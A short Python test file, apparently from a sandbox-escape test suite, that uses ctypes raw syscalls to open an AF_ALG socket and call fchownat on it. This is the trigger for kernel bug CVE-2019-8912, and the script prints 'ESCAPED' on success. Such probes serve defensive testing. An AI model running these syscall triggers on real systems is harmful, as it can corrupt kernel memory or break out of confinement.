# expect: error ImportError
# idea: the door is the release of a socket for ciphers while its owner is changed
# full: done
# source: CVE-2019-8912
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attempt(what, number, *arguments):
    ctypes.set_errno(0)
    wide = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    got = libc.syscall(ctypes.c_long(number), *wide)
    print(f"ESCAPED: {what} gave {got}" if got >= 0 else f"{what}: errno {ctypes.get_errno()}")
    return got
made = attempt("AF_ALG", 41, 38, 5, 0)
attempt("fchownat of it", 260, made, b"", libc.getuid(), -1, 0x1000)
